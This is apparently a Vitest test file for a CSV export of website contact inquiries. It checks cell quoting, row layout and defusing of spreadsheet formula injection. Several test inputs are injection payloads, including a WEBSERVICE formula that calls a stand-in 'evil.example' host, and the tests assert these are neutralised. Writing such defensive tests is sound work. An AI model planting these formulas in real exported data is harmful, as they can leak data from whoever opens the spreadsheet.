import { describe, expect, it } from "vitest";
import type { Inquiry } from "./inquiry";
import { CSV_PREAMBLE, csvCell, csvRow, inquiryCsvRow } from "./inquiry-csv";

const inquiry: Inquiry = {
  id: "abc123",
  name: "Asha Mehta",
  email: "asha@example.com",
  company: null,
  project: "strategy",
  message: 'Line one\nShe said "hi", twice',
  clientHash: "f".repeat(64),
  userAgent: "Test",
  referrer: "https://www.example.org/",
  status: "handled",
  handledAt: "2025-05-02T10:00:00.000Z",
  createdAt: "2025-05-01T09:30:00.000Z",
  deliveries: [
    {
      id: "d1",
      channel: "email",
      status: "pending",
      attempts: 2,
      nextAttemptAt: "2025-05-01T09:31:00.000Z",
      lastAttemptAt: "2025-05-01T09:30:30.000Z",
      lastError: "connect ECONNREFUSED 127.0.0.1:25",
      deliveredAt: null,
    },
    {
      id: "d2",
      channel: "forward",
      status: "delivered",
      attempts: 1,
      nextAttemptAt: "2025-05-01T09:30:00.000Z",
      lastAttemptAt: "2025-05-01T09:30:01.000Z",
      lastError: null,
      deliveredAt: "2025-05-01T09:30:01.000Z",
    },
  ],
};

describe("inquiry CSV", () => {
  it("quotes every cell, doubling quotes", () => {
    expect(csvCell("plain")).toBe('"plain"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('""');
  });

  it("defuses cells a spreadsheet would run as formulas", () => {
    for (const value of ['=HYPERLINK("x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]) {
      expect(csvCell(value).startsWith(`"'`)).toBe(true);
    }
    for (const value of ["\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)"]) {
      expect(csvCell(value).startsWith(`"'`)).toBe(true);
    }
    expect(csvCell("=1,2")).toBe(`"'=1,2"`);
  });

  it("defuses a formula start after any separator inside a cell", () => {
    expect(csvCell('x;=WEBSERVICE("https://evil.example")')).toBe(
      '"x;\'=WEBSERVICE(""https://evil.example"")"',
    );
    expect(csvCell("x,+1")).toBe(`"x,'+1"`);
    expect(csvCell("x\t-1")).toBe(`"x\t'-1"`);
    expect(csvCell("x|@A1")).toBe(`"x|'@A1"`);
    expect(csvCell("x\r\n=1")).toBe(`"x\r\n'=1"`);
    expect(csvCell("x; \uFF1D1")).toBe(`"x; '\uFF1D1"`);
    expect(csvCell("x; y-1 and a@b")).toBe(`"x; y-1 and a@b"`);
  });

  it("writes one CRLF-terminated row per inquiry, with the delivery status per channel", () => {
    expect(inquiryCsvRow(inquiry)).toBe(
      [
        '"2025-05-01T09:30:00.000Z"',
        '"handled"',
        '"2025-05-02T10:00:00.000Z"',
        '"Asha Mehta"',
        '"asha@example.com"',
        '""',
        '"strategy"',
        '"Line one\nShe said ""hi"", twice"',
        '"https://www.example.org/"',
        '"pending (2 attempts): connect ECONNREFUSED 127.0.0.1:25"',
        '"delivered 2025-05-01T09:30:01.000Z"',
        '"abc123"',
      ].join(",") + "\r\n",
    );
  });

  it("starts with a byte-order mark and the header row", () => {
    expect(CSV_PREAMBLE.startsWith('\uFEFF"Received (UTC)","Status",')).toBe(true);
    expect(CSV_PREAMBLE.endsWith('"Id"\r\n')).toBe(true);
    expect(csvRow(["a", "b"])).toBe('"a","b"\r\n');
  });
});
